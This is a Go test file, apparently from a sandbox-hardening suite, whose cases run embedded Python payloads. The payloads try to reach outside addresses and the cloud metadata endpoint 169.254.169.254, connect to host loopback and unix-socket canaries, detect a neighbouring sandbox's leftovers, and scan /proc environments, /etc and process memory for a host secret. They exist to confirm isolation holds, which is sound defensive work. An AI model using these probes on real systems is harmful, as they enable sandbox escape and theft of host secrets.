//go:build linux

package attacks

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"time"

	"pinfold/internal/guest"
	"pinfold/sandbox"
)

// listeners are canaries on the host: whoever reaches one is counted.
type listeners struct {
	hits  atomic.Int64
	close []func() error
	args  []string // for reachCode
}

// listen opens TCP and UDP canaries on every loopback address and one of the
// machine's own, a unix socket and an abstract one.
func (a *arena) listen() (*listeners, error) {
	l := &listeners{}
	lc := net.ListenConfig{}
	for _, address := range append([]string{"127.0.0.1:0", "[::1]:0"}, ownAddresses()...) {
		tcp, err := lc.Listen(a.Context(), "tcp", address)
		if err != nil {
			continue // no IPv6 here, for example
		}
		l.serve(tcp)
		host, port, _ := net.SplitHostPort(tcp.Addr().String())
		l.args = append(l.args, "tcp,"+host+","+port)
		udp, err := lc.ListenPacket(a.Context(), "udp", tcp.Addr().String())
		if err != nil {
			return l, err
		}
		l.close = append(l.close, udp.Close)
		l.args = append(l.args, "udp,"+host+","+port)
		go func() {
			for b := make([]byte, 10); ; l.hits.Add(1) {
				if _, _, err := udp.ReadFrom(b); err != nil {
					return
				}
			}
		}()
	}
	for _, name := range []string{filepath.Join(a.dir, "sock"), "@pinfold-" + a.secret} {
		unixSocket, err := lc.Listen(a.Context(), "unix", name)
		if err != nil {
			return l, err
		}
		l.serve(unixSocket)
		l.args = append(l.args, "unix,"+name+",0")
	}
	return l, nil
}

func ownAddresses() (all []string) {
	found, _ := net.InterfaceAddrs()
	for _, x := range found {
		if n, ok := x.(*net.IPNet); ok && !n.IP.IsLoopback() && n.IP.To4() != nil {
			all = append(all, n.IP.String()+":0")
		}
	}
	return all
}

func (l *listeners) serve(s net.Listener) {
	l.close = append(l.close, s.Close)
	go func() {
		for {
			c, err := s.Accept()
			if err != nil {
				return
			}
			l.hits.Add(1)
			_ = c.Close()
		}
	}()
}

func (l *listeners) stop() {
	for _, c := range l.close {
		_ = c()
	}
}

// reachCode connects to everything in its arguments.
const reachCode = `
import socket
reached = 0
for a in sys.argv[1:]:
    kind, host, port = a.split(",")
    try:
        if kind == "unix":
            s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect(host.replace("@", "\0", 1))
        else:
            s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
            s.settimeout(1); s.connect((host, int(port))); s.send(b"x")
        reached += kind != "udp" # which always seems to arrive
    except OSError: pass
say("reached", "none" if reached == 0 else "some")
`

// reach is a case that connects to canaries.
func reach(c Case, l *listeners) Case {
	c.Attack = Payload{Code: reachCode}
	c.Judge = func(t *trial) error {
		if n := l.hits.Load(); n > 0 {
			return fmt.Errorf("%d canaries were hit: %w", n, errHit)
		}
		return t.said("reached", "none")
	}
	return c
}

func neCases() []Case {
	return []Case{
		{
			ID: "NE-01", Title: "TCP, UDP and names to the world", Level: User, Severity: Exfil, Source: "the promise",
			Expect: "no route; lo is the only interface; a name is not found, at once",
			Attack: Payload{Code: `
import socket
def connect(family, kind, address):
    s = socket.socket(family, kind); s.settimeout(2); s.connect(address); s.send(b"x")
attempt("tcp", connect, socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53))
attempt("udp", connect, socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 53))
attempt("v6", connect, socket.AF_INET6, socket.SOCK_DGRAM, ("2606:4700::1111", 53))
attempt("multicast", connect, socket.AF_INET, socket.SOCK_DGRAM, ("224.0.0.1", 9))
attempt("metadata", connect, socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))
start = time.monotonic()
try: say("name", socket.getaddrinfo("secret.evil.test", 80) and "found")
except OSError as e: say("name", "gaierror")
say("interfaces", len(open("/proc/self/net/dev").readlines()) - 2)
say("routes", len(open("/proc/self/net/route").readlines()) - 1)
`, Quick: 4e9},
			Doors:   append(doors("ENETUNREACH|EACCES|EPERM", "tcp udp v6 multicast metadata"), Door{"name", "gaierror", ""}, Door{"interfaces", "1", ""}, Door{"routes", "0", ""}),
			Control: Control{Without: "a network namespace of its own", Jail: true},
			Twin:    &Twin{What: "a server and a client inside", Payload: Payload{Code: "import asyncio\nasync def main():\n    async def serve(r, w): w.write(await r.readline()); await w.drain(); w.close()\n    s = await asyncio.start_server(serve, 'localhost', 8080)\n    r, w = await asyncio.open_connection('localhost', 8080); w.write(b'echo\\n'); print(await r.readline())\nasyncio.run(main())"}, Want: "echo"},
		},
		{
			ID: "NE-02", Title: "listeners of the host on loopback and its own addresses, on unix and abstract sockets (NE-15)", Level: User, Severity: Escape, Source: "SSRF; containerd CVE-2020-15257",
			Expect: "no canary is hit", Do: reachCanaries,
			Control: Control{Without: "a network namespace and a root of its own", Run: func(a *arena) error {
				l, err := a.listen()
				defer l.stop()
				if err != nil {
					return err
				}
				out, err := a.jail(Payload{Code: reachCode, Args: l.args})
				if err != nil || !strings.Contains(out, "some") || l.hits.Load() < int64(len(l.args)/2) {
					return fmt.Errorf("%d of %d: %q %w", l.hits.Load(), len(l.args), out, err)
				}
				return nil
			}},
		},
	}
}

func reachCanaries(t *trial) error {
	l, err := t.listen()
	defer l.stop()
	if err != nil {
		return err
	}
	c := reach(Case{}, l)
	r := t.run(Payload{Code: c.Attack.Code, Args: l.args})
	t.result = r.result
	return c.Judge(r)
}

func teCases() []Case {
	return []Case{
		{
			ID: "TE-01", Title: "one sandbox looking for another: files, processes, sockets, shared memory, keys", Level: User, Severity: Lateral, Source: "brief",
			Expect: "nothing of the other's is found", Do: lookForNeighbour,
			Control: Control{Without: "a sandbox each", Run: tracesInJail},
		},
		{
			ID: "TE-05", Title: "what a sandbox leaves for the next one with the same ids", Level: User, Severity: Lateral, Source: "dify-sandbox #225",
			Expect: "nothing: twenty sandboxes, one after another", Do: lookForResidue,
			Control: Control{Without: "a sandbox each", Run: tracesInJail},
		},
	}
}

// tracesInJail is the control: without sandboxes they are found, and are to be
// taken away.
func tracesInJail(a *arena) error {
	a.Cleanup(func() {
		for _, p := range []string{"/tmp/trace", "/var/tmp/trace", "/home/user/trace"} {
			if b, err := os.ReadFile(p); err == nil && string(b) == "left-behind" {
				_ = os.Remove(p)
			}
		}
	})
	out, err := a.jail(Payload{Code: leaveCode + strings.ReplaceAll(lookCode, "SECRET", "left-behind")})
	if err != nil || !strings.Contains(out, "found 5") {
		return fmt.Errorf("%q %w", out, err)
	}
	return nil
}

// leaveCode leaves traces wherever one can.
const leaveCode = `
import socket
token = "left-behind"
for p in ("/tmp/trace", "/var/tmp/trace", "/home/user/trace"): open(p, "w").write(token)
open("/dev/shm/trace", "w").write(token) if not JAIL else None
libc.shmget(0x5151, 4096, 0o1666)
libc.semget(0x5252, 1, 0o1666)
s = socket.socket(socket.AF_UNIX); s.bind("\0" + token); s.listen()
if os.fork() == 0: os.setsid(); libc.prctl(15, b"left-behind", 0, 0, 0); time.sleep(3 if JAIL else 30); os._exit(0)
time.sleep(0.05)
`

// lookCode counts the traces that it finds.
const lookCode = `
import socket, glob
found = 0
found += any(open(p, "rb").read(99) == b"left-behind" for p in glob.glob("/tmp/*") + glob.glob("/var/tmp/*") + glob.glob("/dev/shm/*") if os.path.isfile(p))
found += libc.shmget(0x5151, 0, 0) >= 0
found += libc.semget(0x5252, 0, 0) >= 0
try: c = socket.socket(socket.AF_UNIX); c.connect("\0left-behind"); found += 1
except OSError: pass
for p in glob.glob("/proc/[0-9]*/comm"):
    try: found += open(p).read().strip() == "left-behind"
    except OSError: pass
say("found", found)
`

func lookForNeighbour(t *trial) error {
	g, _, err := t.open(sandbox.Limits{})
	if err != nil {
		return err
	}
	p, err := g.Start(t.Context(), guestPython(t.prelude+leaveCode+"time.sleep(30)"), guest.Streams{})
	if err != nil {
		return err
	}
	if err := waitFor(t.Context(), g, "/dev/shm/trace"); err != nil {
		return err
	}
	r := t.run(Payload{Code: lookCode})
	return errors.Join(r.said("found", "0"), p.Signal(9, false))
}

func lookForResidue(t *trial) error {
	for i := range 20 {
		r := t.run(Payload{Code: lookCode + leaveCode + "os._exit(0)"})
		if err := r.said("found", "0"); err != nil {
			return fmt.Errorf("sandbox %d: %w", i, err)
		}
	}
	return nil
}

func guestPython(code string) guest.Command {
	return guest.Command{Args: []string{"/usr/bin/python3", "-c", code}, Env: []string{"PATH=/usr/bin:/bin"}}
}

// waitFor waits until a path exists in a sandbox.
func waitFor(ctx context.Context, g *guest.Guest, path string) error {
	for range 1000 {
		if _, err := g.Stat(ctx, path); err == nil {
			return nil
		}
		time.Sleep(2 * time.Millisecond)
	}
	return fmt.Errorf("%s did not appear", path)
}

func crCases() []Case {
	scan := `
import glob, hashlib, re
hits = 0
def look(data): return token in data
token = (sys.argv[1][::-1] if len(sys.argv) > 1 else os.environ["PINFOLD_CANARY"]).encode()
for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/auxv", "/proc/*/comm", "/proc/*/maps", "/proc/*/mountinfo", "/home/user/*", "/tmp/*", "/etc/*", "/run/*"):
    for f in glob.glob(pattern):
        try: hits += look(open(f, "rb").read(1 << 20))
        except OSError: pass
hits += any(look(v.encode("utf8", "surrogateescape")) for v in os.environ.values())
for line in open("/proc/self/maps"):
    r = line.split()
    if r[1][0] != "r" or "[v" in line: continue
    a, b = (int(x, 16) for x in r[0].split("-"))
    with open("/proc/self/mem", "rb", 0) as m:
        try:
            m.seek(a); data = m.read(b - a)
            # not by the whole name: looking for it would put it there
            hits += sum(hashlib.md5(data[m.end():m.end() + 5]).hexdigest() == "70e44d823dba9506b658db42c3147fa7" for m in re.finditer(b"PINFOLD_CA", data))
        except (OSError, ValueError, OverflowError): pass
say("hits", hits)
`
	return []Case{
		{
			ID: "CR-01", Title: "looking for the host's environment: every process, every descriptor, one's own memory", Level: User, Severity: HostLeak, Source: "I-05",
			Expect: "no hit, while the host process has a secret in its environment",
			Attack: Payload{Code: scan, Quick: 15e9},
			Around: func(t *trial) func() {
				t.Setenv("PINFOLD_CANARY", t.secret)
				t.payload.Args = []string{reverse(t.secret)} // so that the argument is no hit
				return nil
			},
			Doors:   []Door{{"hits", "0", "[1-9].*"}},
			Control: Control{Without: "an environment from a list", Jail: true},
			Twin:    &Twin{What: "a variable that was given", Payload: Payload{Language: "shell", Code: "echo $GIVEN", Env: map[string]string{"GIVEN": "present"}}, Want: "present"},
		},
	}
}

func reverse(s string) string {
	var b strings.Builder
	for i := len(s) - 1; i >= 0; i-- {
		b.WriteByte(s[i])
	}
	return b.String()
}
